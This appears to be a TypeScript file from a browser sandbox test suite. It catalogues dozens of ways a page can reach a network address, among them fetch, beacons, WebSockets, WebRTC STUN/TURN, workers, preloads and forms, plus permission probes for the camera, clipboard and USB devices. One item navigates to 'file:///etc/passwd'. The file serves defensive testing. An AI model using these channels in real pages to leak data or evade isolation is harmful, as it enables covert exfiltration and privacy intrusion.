// Every way out that a page has, written as a hostile page would: none may reach the address it is given.

/** What is attacked: a server that counts who comes, at this host and port, over TCP and UDP. */
export interface Target {
  host: string;
  port: number;
}

/** Attacks by name, as code for the page; each ends by itself, and what it returns does not matter. */
export function attacks({ host, port }: Target): Record<string, string> {
  const http = `http://${host}:${port}`;
  const element = (name: string, properties: Record<string, string>) =>
    `(() => {
      const element = document.createElement(${JSON.stringify(name)});
      Object.assign(element, ${JSON.stringify(properties)});
      document.body.append(element);
    })()`;
  const markup = (text: string) =>
    `document.body.append(document.createRange().createContextualFragment(${JSON.stringify(text)}))`;
  const link = (rel: string, more: Record<string, string> = {}) =>
    element('link', { rel, href: `${http}/${rel}`, ...more });
  return {
    fetch: `fetch('${http}/fetch', { mode: 'no-cors' })`,
    'fetch that outlives the page': `fetch('${http}/keepalive', { mode: 'no-cors', keepalive: true })`,
    XMLHttpRequest: `(() => { const r = new XMLHttpRequest(); r.open('GET', '${http}/xhr'); r.send(); })()`,
    beacon: `navigator.sendBeacon('${http}/beacon', 'x')`,
    WebSocket: `new WebSocket('ws://${host}:${port}/')`,
    EventSource: `new EventSource('${http}/events')`,
    WebTransport: `new WebTransport('https://${host}:${port}/')`,
    image: `(new Image()).src = '${http}/image'`,
    'image in markup': markup(`<img src="${http}/markup.png" srcset="${http}/markup2.png 2x">`),
    picture: markup(`<picture><source srcset="${http}/source.png"><img src="x"></picture>`),
    audio: element('audio', { src: `${http}/audio`, preload: 'auto' }),
    video: element('video', { src: `${http}/video`, poster: `${http}/poster`, preload: 'auto' }),
    script: element('script', { src: `${http}/script.js` }),
    'module script': element('script', { src: `${http}/module.js`, type: 'module' }),
    'imported module': `import('${http}/import.js')`,
    iframe: element('iframe', { src: `${http}/iframe` }),
    'iframe with a document': element('iframe', { srcdoc: `<img src="${http}/srcdoc">` }),
    object: element('object', { data: `${http}/object` }),
    embed: element('embed', { src: `${http}/embed` }),
    webview: element('webview', { src: `${http}/webview` }),
    'style sheet': link('stylesheet'),
    'imported style sheet': markup(`<style>@import url("${http}/import.css");</style>`),
    'style background': markup(`<div style="background: url(${http}/background)">x</div>`),
    font: markup(
      `<style>@font-face { font-family: far; src: url("${http}/font.woff2"); } em { font-family: far }</style><em>x</em>`,
    ),
    'font by script': `new FontFace('far2', 'url(${http}/font2.woff2)').load()`,
    prefetch: link('prefetch'),
    prerender: link('prerender'),
    preconnect: link('preconnect'),
    'dns-prefetch': link('dns-prefetch', { href: 'http://prefetch.example.org/' }),
    preload: link('preload', { as: 'image' }),
    modulepreload: link('modulepreload'),
    manifest: link('manifest'),
    icon: link('icon'),
    'speculation rules': `(() => {
      const script = document.createElement('script');
      script.type = 'speculationrules';
      script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${http}/speculation'] }], prerender: [{ source: 'list', urls: ['${http}/prerender'] }] });
      document.body.append(script);
    })()`,
    worker: `new Worker('${http}/worker.js')`,
    'worker from a blob': `new Worker(URL.createObjectURL(new Blob(["fetch('${http}/blob')"])))`,
    'shared worker': `new SharedWorker('${http}/shared.js')`,
    'service worker': `navigator.serviceWorker.register('${http}/service.js')`,
    'meta refresh': markup(`<meta http-equiv="refresh" content="0; url=${http}/refresh">`),
    'submitted form': `(() => {
      const form = document.createElement('form');
      form.action = '${http}/form'; form.method = 'post';
      document.body.append(form); form.submit();
    })()`,
    'followed link': `(() => { const a = document.createElement('a'); a.href = '${http}/link'; document.body.append(a); a.click(); })()`,
    'link with a ping': `(() => { const a = document.createElement('a'); a.href = '#'; a.ping = '${http}/ping'; document.body.append(a); a.click(); })()`,
    'link to a new window': `(() => { const a = document.createElement('a'); a.href = '${http}/blank'; a.target = '_blank'; document.body.append(a); a.click(); })()`,
    'javascript: link': `(() => { const a = document.createElement('a'); a.href = "javascript:fetch('${http}/javascript')"; document.body.append(a); a.click(); })()`,
    download: `(() => { const a = document.createElement('a'); a.href = '${http}/download'; a.download = 'x'; document.body.append(a); a.click(); })()`,
    'new window': `window.open('${http}/open')`,
    'own location': `location.href = '${http}/location'`,
    'replaced location': `location.replace('${http}/replace')`,
    'another scheme': `location.href = 'mailto:someone@example.org'`,
    'a file': `location.href = 'file:///etc/passwd'`,
    'WebRTC, a server asked for the own address': `(async () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:${host}:${port}' },
        { urls: 'turn:${host}:${port}?transport=tcp', username: 'x', credential: 'x' },
        { urls: 'turn:${host}:${port}?transport=udp', username: 'x', credential: 'x' },
      ] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1500));
    })()`,
    'a name that is looked up': `fetch('http://looked-up.example.org/', { mode: 'no-cors' })`,
    payment: `new PaymentRequest([{ supportedMethods: '${http}/pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment()`,
  };
}

/** What a page may ask of the system, as code that gives `true` where it was granted. */
export const PERMISSIONS: Record<string, string> = {
  notifications: `Notification.requestPermission().then((said) => said === 'granted')`,
  'the place': `new Promise((done) => navigator.geolocation.getCurrentPosition(() => done(true), () => done(false)))`,
  'camera and microphone': `navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => true)`,
  'the screen': `navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => true)`,
  'reading the clipboard': `navigator.clipboard.readText().then(() => true)`,
  'fonts of the system': `queryLocalFonts().then((fonts) => fonts.length > 0)`,
  'MIDI devices': `navigator.requestMIDIAccess({ sysex: true }).then(() => true)`,
  'USB devices': `navigator.usb.requestDevice({ filters: [] }).then(() => true)`,
  'HID devices': `navigator.hid.requestDevice({ filters: [] }).then((found) => found.length > 0)`,
  'serial ports': `navigator.serial.requestPort().then(() => true)`,
  'Bluetooth devices': `navigator.bluetooth.requestDevice({ acceptAllDevices: true }).then(() => true)`,
  'files of the disk': `showOpenFilePicker().then(() => true)`,
  'staying awake': `navigator.wakeLock.request('screen').then(() => true)`,
  'lasting storage': `navigator.storage.persist()`,
  'idle state': `IdleDetector.requestPermission().then((said) => said === 'granted')`,
  'the whole screen': `document.documentElement.requestFullscreen().then(() => true)`,
};

/** Code that runs one attack to its end, however it ends. */
export function survived(code: string): string {
  return `(async () => {
    try { return await Promise.race([(async () => ${code})(), new Promise((r) => setTimeout(r, 2500, 'slow'))]); }
    catch (error) { return String(error); }
  })()`;
}
